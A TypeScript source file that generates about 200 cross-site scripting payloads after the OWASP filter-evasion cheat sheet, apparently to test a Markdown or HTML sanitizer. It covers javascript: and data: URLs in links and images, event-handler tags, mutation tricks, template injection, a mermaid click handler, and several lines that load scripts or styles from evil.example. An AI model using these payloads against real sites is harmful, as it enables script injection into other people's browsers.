/*
 * Two hundred texts that try to become code in a page: raw HTML, SVG, links, images, Markdown's own syntax and mermaid,
 * each way of calling crossed with each way of getting called. After the OWASP XSS Filter Evasion Cheat Sheet.
 */
const call = "globalThis.pwned=1;alert(1)";

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `\u0001javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `//evil.example/x.js`,
  `https://evil.example/x.png`,
];

/** One target in every place Markdown and HTML have for one. */
const places: readonly ((target: string) => string)[] = [
  (target) => `[link](${target})`,
  (target) => `[link](<${target}>)`,
  (target) => `![image](${target})`,
  (target) => `<${target}>`,
  (target) => `[ref]: ${target}\n\n[ref]`,
  (target) => `<a href="${target}">x</a>`,
  (target) => `<img src="${target}">`,
  (target) => `<iframe src="${target}"></iframe>`,
  (target) => `<form action="${target}"><button>x</button></form>`,
  (target) => `<object data="${target}"></object>`,
  (target) => `<svg><a xlink:href="${target}"><text>x</text></a></svg>`,
  (target) => `<math href="${target}">x</math>`,
];

const events = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus autofocus",
  "ontoggle open",
  "onbegin",
  "onpageshow",
];
const elements = ["img src=x", "svg", "body", "details", "input", "video", "marquee"];

const alone = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<svg><foreignObject><script>${call}</script></foreignObject></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `'-${call}-'`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><script>${call}</script>]]>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  `\`<script>${call}</script>\``,
  `# <img src=x onerror=${call}>`,
  `| a |\n| --- |\n| <script>${call}</script> |`,
  `- [ ] <input onfocus=${call} autofocus>`,
  `<a href="x" style="background:url(javascript:${call})">x</a>`,
  `\u202e<script>${call}</script>`,
];

const withEvents = elements.flatMap((element) => events.map((event) => `<${element} ${event}="${call}">`));
const withTargets = places.flatMap((place) => schemes.map((scheme) => place(scheme)));

/** Every second target is enough: each place meets six schemes, each scheme six places. */
const everySecond = withTargets.filter((_, index) => (index + Math.floor(index / schemes.length)) % 2 === 0);

export const payloads: readonly string[] = [...alone, ...everySecond, ...withEvents, ...withTargets]
  .filter((text, index, all) => all.indexOf(text) === index)
  .slice(0, 200);
